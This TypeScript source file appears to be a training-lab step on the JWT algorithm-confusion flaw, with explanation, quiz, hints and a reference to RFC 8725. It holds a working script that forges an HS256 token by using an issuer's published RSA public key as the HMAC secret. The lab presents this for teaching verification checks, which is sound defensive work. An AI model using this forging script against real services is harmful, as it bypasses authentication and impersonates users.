import { discoveryUrl } from '../../services/clients/discovery.ts';
import { breakStep } from './break-step.ts';
import { BREAKAGES } from './breakages.ts';
import { forge, keepToken, sendKept, TAKEN_APART } from './commands.ts';

const BY_HMAC = [
  'const json = (url) => fetch(url).then((answer) => answer.json());',
  'json(process.argv[1]).then(({ jwks_uri }) => json(jwks_uri)).then(({ keys }) => {',
  `  ${TAKEN_APART} const header = JSON.parse(Buffer.from(h, \`base64url\`));`,
  '  const { createHmac, createPublicKey } = require(`node:crypto`);',
  '  const key = createPublicKey({ key: keys.find(({ kid }) => kid === header.kid), format: `jwk` });',
  '  const secret = key.export({ type: `spki`, format: `pem` });',
  '  const signed = Buffer.from(JSON.stringify({ ...header, alg: `HS256` })).toString(`base64url`) + `.` + p;',
  '  console.log(signed + `.` + createHmac(`sha256`, secret).update(signed).digest(`base64url`));',
  '})',
].join('\n');

/** The call with a token that is signed by HMAC, with the public key for a secret. */
export const withPublicKey = breakStep(BREAKAGES.publicKey, {
  keyIdea: 'A public key is known to everybody. Who lets a token choose the algorithm lets everybody sign.',
  explanation: [
    'RS256 has two keys: a private one that signs, and a public one that verifies. HS256 has one secret for both. The issuer’s public key can be ' +
      'fetched by anybody, and as a text in PEM it is some bytes like others.',
    'Sign a token with those bytes by HS256, and name that algorithm in its header. A verifier that takes the algorithm from the token, and the key from ' +
      'the issuer, computes the very same HMAC, and finds that it fits.',
  ],
  prediction: {
    question: 'At which of its checks will this tool stop?',
    choices: [
      'at the key: the header names no key that it knows',
      'at the signature: the HMAC does not fit',
      'at the algorithm: it takes no HS256, whatever key comes with it',
      'at none: the HMAC fits, and the key is the issuer’s',
    ],
    answer: 2,
    because:
      'The key id is a good one, and the HMAC would fit. That is why the algorithm is looked at first: whoever verifies with public keys takes no algorithm ' +
      'whose key is a secret (RFC 8725, section 3.1).',
  },
  hints: [
    'Compare the header of this token with that of the good one.',
    'alg says HS256. Does the tool take that?',
    'It takes what it can verify with public keys: of those that the issuer offers, RS, PS, ES and EdDSA.',
  ],
  byHand: (lab, shell) => [
    keepToken(lab, shell),
    forge(BY_HMAC, shell, discoveryUrl(lab.issuer)),
    sendKept(lab, shell),
  ],
});
